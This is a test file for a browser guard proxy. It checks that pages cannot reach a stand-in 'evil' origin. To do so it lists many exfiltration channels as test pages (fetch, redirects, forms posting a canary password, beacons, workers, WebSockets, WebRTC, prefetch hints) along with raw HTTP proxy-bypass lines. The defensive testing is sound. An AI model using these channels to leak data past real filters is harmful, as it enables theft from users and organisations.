import { createHash } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import { startGuard } from '../../src/browser/guard.ts';
import { startEvilServer, type EvilServer } from '../support/evilServer.ts';
import type { Handler, Routes } from '../support/localServer.ts';
import { expect, test as base } from '../support/session.ts';

const test = base.extend<{ evil: EvilServer }>({
  // oxlint-disable-next-line no-empty-pattern
  evil: async ({}, use) => {
    const evil = await startEvilServer();
    await use(evil);
    await evil.close();
  },
});

/** Ends when the page says that its attack is over: an answer from the allowed origin tells. */
const OVER = `fetch('/over')`;

/** Each page attacks as soon as it is loaded, or when its button is clicked, and then asks its own origin for `/over`. */
const ATTACKS: Record<string, (evil: EvilServer) => Routes> = {
  fetch: ({ origin }) => ({
    '/': `<script>fetch('${origin}/x', { mode: 'no-cors' }).catch(() => undefined).finally(() => ${OVER})</script>`,
  }),
  'a POST by fetch': ({ origin }) => ({
    '/': `<script>fetch('${origin}/x', { method: 'POST', mode: 'no-cors', body: 'canary' }).catch(() => undefined).finally(() => ${OVER})</script>`,
  }),
  'a request that is redirected': ({ origin }) => ({
    '/': `<script>fetch('/away').catch(() => undefined).finally(() => ${OVER})</script>`,
    '/away': (_, response) => response.writeHead(302, { location: `${origin}/x` }).end(),
  }),
  'a page that is redirected': ({ origin }) => ({
    '/': `<a href="/away">Go</a><script>document.querySelector('a').onclick = () => { ${OVER} }</script>`,
    '/away': (_, response) => response.writeHead(302, { location: `${origin}/x` }).end(),
  }),
  'a form whose POST is sent on by 307': ({ origin }) => ({
    '/': `<form method=post action="/away"><input name=password value=canary><button>Go</button></form>
      <script>document.forms[0].onsubmit = () => { ${OVER} }</script>`,
    '/away': (_, response) => response.writeHead(307, { location: `${origin}/x` }).end(),
  }),
  'a link': ({ origin }) => ({ '/': `<a href="${origin}/x" onclick="fetch('/over')">Go</a>` }),
  'a form': ({ origin }) => ({
    '/': `<form method=post action="${origin}/x" onsubmit="fetch('/over')"><input name=password value=canary><button>Go</button></form>`,
  }),
  'location.href': ({ origin }) => ({
    '/': `<button onclick="fetch('/over'); location.href = '${origin}/x'">Go</button>`,
  }),
  'a meta refresh': ({ origin }) => ({
    '/': `<button onclick="location.href = '/meta'">Go</button>`,
    '/meta': `<meta http-equiv=refresh content="0;url=${origin}/x"><script>${OVER}</script>`,
  }),
  'pictures, scripts, styles, media and fonts': ({ origin }) => ({
    '/': `<img src="${origin}/i"><script src="${origin}/s"></script><link rel=stylesheet href="${origin}/c"><video src="${origin}/v"></video>
      <style>@font-face { font-family: x; src: url(${origin}/f) } p { font-family: x; background: url(${origin}/b) }</style><p>x</p>
      <object data="${origin}/o"></object><embed src="${origin}/e"><script>onload = () => { ${OVER} }</script>`,
  }),
  'a picture that is redirected': ({ origin }) => ({
    '/': `<img src="/away" onerror="fetch('/over')" onload="fetch('/over')">`,
    '/away': (_, response) => response.writeHead(301, { location: `${origin}/x` }).end(),
  }),
  'a frame': ({ origin }) => ({ '/': `<iframe src="${origin}/x" onload="fetch('/over')"></iframe>` }),
  'a frame in a frame': ({ origin }) => ({
    '/': '<iframe src="/inner"></iframe>',
    '/inner': `<iframe src="${origin}/x" onload="fetch('/over')"></iframe>`,
  }),
  'a WebSocket': ({ host }) => ({
    '/': `<script>const socket = new WebSocket('ws://${host}/x'); socket.onerror = () => ${OVER}</script>`,
  }),
  'an EventSource': ({ origin }) => ({
    '/': `<script>const source = new EventSource('${origin}/x'); source.onerror = () => { source.close(); ${OVER} }</script>`,
  }),
  'a window that is opened': ({ origin }) => ({
    '/': `<button onclick="window.open('${origin}/x'); fetch('/over')">Go</button>`,
  }),
  'a window that is opened here and redirected': ({ origin }) => ({
    '/': `<button onclick="window.open('/away'); fetch('/over')">Go</button>`,
    '/away': (_, response) => response.writeHead(302, { location: `${origin}/x` }).end(),
  }),
  'a link to a new tab': ({ origin }) => ({
    '/': `<a href="${origin}/x" target=_blank onclick="fetch('/over')">Go</a>`,
  }),
  'a beacon': ({ origin }) => ({ '/': `<script>navigator.sendBeacon('${origin}/x', 'canary'); ${OVER}</script>` }),
  'a beacon and a kept alive request while the page is left': ({ origin }) => ({
    '/': `<a href="/next">Go</a><script>addEventListener('pagehide', () => {
      navigator.sendBeacon('${origin}/x', 'canary'); fetch('${origin}/y', { keepalive: true, method: 'POST', mode: 'no-cors', body: 'canary' }) })</script>`,
    '/next': `<script>${OVER}</script>`,
  }),
  'a worker': ({ origin }) => ({
    '/': `<script>new Worker('/worker.js').onmessage = () => ${OVER}</script>`,
    '/worker.js': script(
      `fetch('${origin}/x', { mode: 'no-cors' }).catch(() => undefined).finally(() => postMessage(1))`,
    ),
  }),
  'a shared worker': ({ origin }) => ({
    '/': `<script>new SharedWorker('/worker.js').port.onmessage = () => ${OVER}</script>`,
    '/worker.js': script(
      `onconnect = (event) => fetch('${origin}/x', { mode: 'no-cors' }).catch(() => undefined).finally(() => event.ports[0].postMessage(1))`,
    ),
  }),
  'a service worker': ({ origin }) => ({
    '/': `<script>const over = () => ${OVER}; Promise.resolve(navigator.serviceWorker?.register('/worker.js')).then(over, over)</script>`,
    '/worker.js': script(`fetch('${origin}/x', { mode: 'no-cors' })`),
  }),
  'hints to the browser': ({ origin }) => ({
    '/': `<link rel=preconnect href="${origin}"><link rel=prefetch href="${origin}/p"><link rel=dns-prefetch href="${origin}"><link rel=preload as=image href="${origin}/l">
      <link rel=prerender href="${origin}/r"><script type=speculationrules>{ "prefetch": [{ "urls": ["${origin}/s"] }] }</script>
      <a ping="${origin}/ping" href="#x">Go</a><script>onload = () => { ${OVER} }</script>`,
  }),
  WebRTC: ({ host }) => ({
    '/': `<script>(async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }, { urls: 'turn:${host}?transport=tcp', username: 'a', credential: 'b' }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 1500) });
    })().finally(() => ${OVER})</script>`,
  }),
};

function script(text: string): Handler {
  return (_, response) => {
    response.writeHead(200, { 'content-type': 'text/javascript' }).end(text);
  };
}

for (const [what, pages] of Object.entries(ATTACKS))
  test(`nothing reaches another origin by ${what}`, async ({ visit, evil }) => {
    const { session, server } = await visit({ ...pages(evil), '/over': 'over' });

    const go = session.page.getByText('Go');
    if ((await go.count()) > 0) await session.act(() => go.click());

    await expect.poll(() => server.seen).toContain('GET /over');
    await session.observe({ picture: false });
    expect(evil.came).toEqual([]);
  });

test('without the guard the same attacks arrive: the tests above can fail', async ({ visit, evil }) => {
  for (const what of ['fetch', 'a WebSocket', 'a frame', 'a form whose POST is sent on by 307']) {
    const pages = ATTACKS[what]?.(evil) ?? {};
    const { session, server } = await visit({ ...pages, '/over': 'over' }, { alsoAllowed: [evil.origin] });
    const before = evil.came.length;

    const go = session.page.getByText('Go');
    if ((await go.count()) > 0) await session.act(() => go.click());
    await expect.poll(() => server.seen).toContain('GET /over');

    await expect.poll(() => evil.came.length, what).toBeGreaterThan(before - 1);
    await expect.poll(() => evil.came.join('\n')).toContain('/x');
  }
});

test('what was refused is told, once, by its origin', async ({ visit, evil }) => {
  const { session } = await visit({
    '/': `<button onclick="fetch('${evil.origin}/a').catch(() => undefined); fetch('${evil.origin}/b').catch(() => undefined); new WebSocket('ws://${evil.host}/')">Go</button>`,
  });

  await session.act(() => session.page.getByText('Go').click());
  await session.settle();
  const lines: string[] = [];
  await expect(async () => {
    const { since } = await session.observe({ picture: false });
    lines.push(...since.filter((line) => line.startsWith('refused')));
    expect(lines.toSorted()).toEqual([
      `refused by the guard: ${evil.host} is not an allowed origin`,
      `refused by the guard: ${evil.origin} is not an allowed origin`,
    ]);
  }).toPass();
});

test('a browser at rest on a login page asks for nothing but what the page asks for', async ({ visit }) => {
  const { session, guard } = await visit({
    '/': '<form><label>User <input name=user></label><label>Password <input type=password name=password></label><button>Log in</button></form>',
    // As long as Chromium takes until it looks its form fields up elsewhere.
    '/later': (_, response) => setTimeout(() => response.end(), 2_000),
  });

  await session.page.getByLabel('User').fill('alice');
  await session.page.getByLabel('Password').fill('x');
  await session.page.evaluate(() => fetch('/later'));

  expect(guard.takeRefused()).toEqual([]);
});

test('a WebSocket to an allowed origin works', async ({ visit }) => {
  const { session, server } = await visit('<h1>Chat</h1>');
  const socket = await startEcho();

  const allowed = await visit('<h1>Chat</h1>', { alsoAllowed: [socket.origin] });
  const talk = (url: string) =>
    new Promise<string>((resolve) => {
      const line = new WebSocket(url);
      line.addEventListener('open', () => line.send('hello'));
      line.addEventListener('message', (event) => resolve(String(event.data)));
      line.addEventListener('error', () => resolve('refused'));
    });
  const url = socket.origin.replace('http', 'ws');

  expect(await allowed.session.page.evaluate(talk, url)).toBe('hello');
  expect(await session.page.evaluate(talk, url)).toBe('refused');
  expect(server.seen).not.toContain('UPGRADE /');
  await socket.close();
});

test('an allowed origin is passed through whole: method, body, headers both ways, status, streams', async ({
  visit,
}) => {
  const { session, server } = await visit(
    {
      '/': '<h1>Up</h1>',
      '/echo': (request, response) => {
        response.writeHead(
          418,
          'Tea',
          [
            ['x-method', request.method ?? ''],
            ['x-host', request.headers.host ?? ''],
            ['set-cookie', 'a=1'],
            ['set-cookie', 'b=2'],
          ].flat(),
        );
        request.pipe(response);
      },
      '/big': (_, response) => {
        for (let n = 0; n < 64; n++) response.write(Buffer.alloc(65_536, 'x'));
        response.end();
      },
    },
    { scenario: { headers: {} } },
  );

  const seen = await session.page.evaluate(async () => {
    const answer = await fetch('/echo?q=%20é', { method: 'PUT', body: 'the body' });
    const big = await (await fetch('/big')).text();
    return [
      answer.status,
      answer.headers.get('x-method'),
      answer.headers.get('x-host'),
      await answer.text(),
      document.cookie,
      big.length,
    ];
  });

  expect(seen).toEqual([418, 'PUT', new URL(server.origin).host, 'the body', 'a=1; b=2', 4_194_304]);
  expect(server.seen).toContain('PUT /echo?q=%20%C3%A9');
});

test('a server that breaks off is a broken answer, never a whole one', async ({ visit }) => {
  const { session } = await visit({
    '/': '<h1>Up</h1>',
    '/half': (_, response) => {
      response.writeHead(200, { 'content-length': '1000' }).write('half', () => response.destroy());
    },
    '/chunks': (_, response) => {
      response.write('half', () => response.destroy());
    },
    '/reset': (request) => request.socket.destroy(),
  });
  const outcome = (path: string) =>
    session.page.evaluate(
      (url) =>
        fetch(url)
          .then((answer) => answer.text())
          .then(
            () => 'whole',
            () => 'broken',
          ),
      path,
    );

  expect(await outcome('/half')).toBe('broken');
  expect(await outcome('/chunks')).toBe('broken');
  expect(await outcome('/reset')).toBe('broken');
});

for (const [what, head] of Object.entries({
  'a tunnel to another port': 'CONNECT EVIL HTTP/1.1\r\nhost: x\r\n\r\n',
  'a tunnel to nowhere': 'CONNECT nowhere HTTP/1.1\r\nhost: x\r\n\r\n',
  'a tunnel to garbage': 'CONNECT [::: HTTP/1.1\r\nhost: x\r\n\r\n',
  'a request to another origin': 'GET http://EVIL/ HTTP/1.1\r\nhost: x\r\n\r\n',
  'a request that names no origin': 'GET / HTTP/1.1\r\nhost: EVIL\r\n\r\n',
  'a request that names its host twice': 'GET http://allowed@EVIL/ HTTP/1.1\r\nhost: allowed\r\n\r\n',
  'an upgrade of another origin':
    'GET http://EVIL/ HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n',
}))
  test(`the guard refuses ${what} and lives on`, async ({ evil }) => {
    const guard = await startGuard(['http://127.0.0.1:9']);
    const port = Number(new URL(guard.url).port);

    for (const _ of [1, 2]) {
      const answer = await say(port, head.replaceAll('EVIL', evil.host));
      expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    }
    expect(evil.came).toEqual([]);
    await guard.close();
  });

test('the guard listens on this machine only, and closes with tunnels open', async ({ serve }) => {
  const server = await serve({ '/': 'x' });
  const { port } = new URL(server.origin);
  const guard = await startGuard([server.origin]);
  const socket = net.connect(Number(new URL(guard.url).port), '127.0.0.1');
  socket.write(`CONNECT 127.0.0.1:${port} HTTP/1.1\r\nhost: x\r\n\r\n`);
  await new Promise((resolve) => socket.once('data', resolve));

  await guard.close();

  expect(guard.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
  await expect.poll(() => socket.destroyed || socket.readableEnded).toBe(true);
});

/** Everything that comes back until the other side closes. */
function say(port: number, text: string): Promise<string> {
  return new Promise((resolve) => {
    let answer = '';
    const socket = net.connect(port, '127.0.0.1', () => socket.write(text));
    socket.on('data', (data) => {
      answer += data.toString();
      if (answer.includes('\r\n\r\n')) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(answer));
  });
}

/** The smallest WebSocket server: says back what it was told, in short text frames. */
async function startEcho(): Promise<{ origin: string; close(): Promise<void> }> {
  const server = http.createServer();
  const sockets = new Set<import('node:stream').Duplex>();
  server.on('upgrade', (request, socket) => {
    sockets.add(socket);
    const key = createHash('sha1')
      .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-accept: ${key}\r\n\r\n`,
    );
    socket.on('data', (frame: Buffer) => {
      if ((frame[0] ?? 0) !== 0x81) return;
      const mask = frame.subarray(2, 6);
      const text = frame.subarray(6).map((byte, at) => byte ^ (mask[at % 4] ?? 0));
      socket.write(Buffer.concat([Buffer.from([0x81, text.length]), text]));
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const address = server.address();
  return {
    origin: `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
